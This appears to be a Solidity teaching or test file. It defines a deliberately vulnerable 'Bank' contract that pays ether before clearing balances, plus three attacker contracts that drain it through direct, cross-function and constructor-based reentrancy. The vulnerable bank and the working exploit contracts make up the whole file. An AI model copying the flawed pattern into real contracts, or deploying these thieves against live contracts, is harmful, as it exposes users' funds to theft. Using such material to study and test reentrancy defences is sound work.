// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// Pays before it writes its books, in every way that attacks have used.
contract Bank {
    mapping(address => uint256) public balances;

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0);
        (bool sent, ) = msg.sender.call{value: amount}("");
        require(sent);
        balances[msg.sender] = 0;
    }

    function transfer(address to, uint256 amount) external {
        balances[msg.sender] -= amount;
        balances[to] += amount;
    }

    /// Pays into an account that it creates, with a constructor of the customer's choice.
    function withdrawInto(bytes memory initCode) external {
        uint256 amount = balances[msg.sender];
        require(amount > 0);
        address child;
        assembly {
            child := create(amount, add(initCode, 32), mload(initCode))
        }
        require(child != address(0));
        balances[msg.sender] = 0;
    }
}

/// Comes back into `withdraw` from inside its payment.
contract DirectThief {
    Bank bank;
    uint256 public comebacks;

    constructor(Bank bank_) {
        bank = bank_;
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (++comebacks < 5) bank.withdraw();
    }
}

/// Gives away, from inside the payment, the deposit that is being paid.
contract CrossFunctionThief {
    Bank bank;
    address accomplice;

    constructor(Bank bank_, address accomplice_) {
        bank = bank_;
        accomplice = accomplice_;
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        bank.transfer(accomplice, msg.value);
    }
}

/// Comes back from the constructor of a child of the bank.
contract ChildThief {
    Bank bank;
    uint256 public comebacks;

    constructor(Bank bank_) {
        bank = bank_;
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        again();
    }

    /// Called by the constructor of each child, too.
    function again() public {
        if (++comebacks < 5) {
            bank.withdrawInto(abi.encodePacked(type(Child).creationCode, abi.encode(this)));
        }
    }
}

/// Born in the bank with the customer's ether.
contract Child {
    constructor(ChildThief thief) payable {
        thief.again();
    }
}
